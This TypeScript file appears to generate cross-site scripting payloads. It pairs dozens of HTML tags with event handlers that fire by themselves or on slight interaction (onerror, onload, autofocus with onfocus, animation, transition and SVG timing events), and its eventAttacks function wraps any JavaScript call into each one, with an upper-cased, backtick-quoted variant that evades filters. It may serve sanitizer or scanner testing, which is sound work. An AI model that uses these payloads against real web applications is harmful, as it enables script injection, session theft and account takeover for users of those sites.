/** Events that some element fires by itself or when somebody points at it. */
const handlers: readonly (readonly [string, string])[] = [
  ...[
    'img src=x',
    'image src=x',
    'video src=x',
    'audio src=x',
    'object data=x:',
    'script src=x:',
    'link rel=stylesheet href=x:',
    'input type=image src=x',
    'svg><image href=x',
    'embed src=x:',
  ].map((tag) => [tag, 'onerror'] as const),
  ...[
    'svg',
    'body',
    'iframe',
    'style',
    'img src=/favicon.svg',
    'object data=/favicon.svg',
    'embed src=/favicon.svg',
    'frameset',
    'link rel=stylesheet href=/favicon.svg',
    'svg><style',
    'svg><image href=/favicon.svg',
    'math><style',
  ].map((tag) => [tag, 'onload'] as const),
  ...[
    'input autofocus',
    'select autofocus',
    'textarea autofocus',
    'button autofocus',
    'a href=# autofocus',
    'div tabindex=1 autofocus',
    'div contenteditable autofocus',
    'audio controls autofocus',
    'summary tabindex=1 autofocus',
    'svg tabindex=1 autofocus',
  ].flatMap(
    (tag) =>
      [
        [tag, 'onfocus'],
        [tag, 'onfocusin'],
      ] as const,
  ),
  ...['details open', 'div popover=manual', 'dialog open'].map((tag) => [tag, 'ontoggle'] as const),
  ...[
    'video src=/favicon.svg',
    'audio autoplay src=/favicon.svg',
    'video autoplay',
    'audio src=data:audio/wav,',
    'video poster=/favicon.svg',
  ].flatMap(
    (tag) =>
      [
        [tag, 'onloadstart'],
        [tag, 'onsuspend'],
        [tag, 'onemptied'],
      ] as const,
  ),
  ...['onanimationstart', 'onanimationend', 'onanimationiteration', 'onwebkitanimationstart'].map(
    (event) => [`b style="animation:x 1ms"`, event] as const,
  ),
  ...['ontransitionend', 'ontransitionrun', 'ontransitionstart'].map(
    (event) => ['b style="transition:all 1ms" tabindex=1', event] as const,
  ),
  ...['onpageshow', 'onresize', 'onhashchange', 'onpopstate', 'onmessage', 'onbeforeprint', 'onunload', 'onscroll', 'ononline'].map(
    (event) => ['body', event] as const,
  ),
  ...['onbegin', 'onend', 'onrepeat'].flatMap((event) =>
    [
      'svg><animate attributeName=x dur=1ms',
      'svg><set attributeName=x dur=1ms',
      'svg><animateTransform attributeName=transform dur=1ms',
    ].map((tag) => [tag, event] as const),
  ),
  ...[
    'onmouseover',
    'onclick',
    'onpointerenter',
    'onmouseenter',
    'oncontextmenu',
    'onwheel',
    'onauxclick',
    'onbeforeinput',
    'oncopy',
    'onpaste',
    'ondrag',
    'onscrollend',
    'onselectstart',
  ].map((event) => ['b', event] as const),
  ['marquee', 'onstart'],
  ['marquee loop=1 width=0', 'onfinish'],
  ['form><input oninput=1><button', 'onformdata'],
  ['div style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
]
/** Each of them in two spellings. */
export function eventAttacks(call: string): readonly string[] {
  return handlers.flatMap(([tag, event]) => [
    `<${tag} ${event}="${call}">go`,
    `<${tag.toUpperCase()}\n${event.toUpperCase()}=${call.replaceAll("'", '`')}//>go`,
  ])
}
